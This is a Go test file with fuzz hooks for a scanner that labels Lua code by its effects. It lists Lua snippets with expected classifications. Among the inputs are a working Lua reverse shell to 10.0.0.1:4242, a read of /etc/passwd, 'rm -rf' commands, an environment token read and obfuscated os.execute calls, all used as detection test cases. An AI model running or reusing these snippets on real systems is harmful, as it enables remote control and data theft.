package eval

import "testing"

func TestLua(t *testing.T) { runCases(t, "lua", luaCases()) }

// FuzzLua feeds the tokenizer and all behind it.
func FuzzLua(f *testing.F) { fuzzLanguage(f, "lua", luaCases()) }

func luaCases() []scanCase {
	return []scanCase{
		{`error(os.getenv("API_TOKEN"))`, `env`},
		{`assert(io.open("x"))`, `fs.read x`},
		{`setmetatable({}, {__unm = os.remove})`, `?`},
		{`for k in os.remove, "x" do end`, `fs.delete x`},
		{`for k, v in pairs({1}) do print(v) end`, `pure`},
		{`print("hi")`, `pure`},
		{`os.execute("rm -rf build")`, `shell: rm -rf build`},
		{`os.remove("a.txt")`, `fs.delete a.txt`},
		{`local f = io.open("a", "w"); f:write("x"); f:close()`, `fs.write a`},
		{`local f = io.open("/etc/passwd"); print(f:read("*a"))`, `fs.read /etc/passwd shown`},
		{`print(io.popen("id"):read("*a"))`, `shell: id`},
		{`os.execute("rm " .. "-rf x")`, `shell: rm -rf x`},
		{`local c = string.char(105,100) os.execute(c)`, `shell: id`},
		{`load("os.execute('id')")()`, `shell: id`},
		{`for i=1,3 do print(i) end`, `pure`},
		{`for _, f in ipairs({"a","b"}) do os.remove(f) end`, `fs.delete`},
		{`os.rename("a","b")`, `fs.move a; fs.write b (move) <- a`},
		{"-- os.execute(\"x\")\nprint(1)", `pure`},
		{`local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4242); while true do local r,x=t:receive(); local f=assert(io.popen(r,"r")); local b=assert(f:read("*a")); t:send(b) end`, `exec.remote 10.0.0.1:4242 (reverse shell); net.connect 10.0.0.1:4242; net.send 10.0.0.1:4242; shell: <a connection>`},
		{`function f(p) os.remove(p) end f("zz")`, `fs.delete zz`},
		{`if x then os.remove("a") else print("b") end`, `fs.delete a`},
		{`print(os.getenv("HOME"))`, `pure`},
		{`print(#arg, ("x"):rep(3))`, `pure`},
		{`dofile("x.lua")`, `fs.read x.lua shown; ?`},
		{`for line in io.lines("a.txt") do print(line) end`, `fs.read a.txt shown`},
		{`print([[os.execute("x")]]) --[[ os.execute("y") ]]`, `pure`},
		{`local t = {a = 1, [2] = "b"; "c"} print(t.a, #t)`, `pure`},
		{`os.execute(("x"):rep(2))`, `shell: xx`},
	}
}
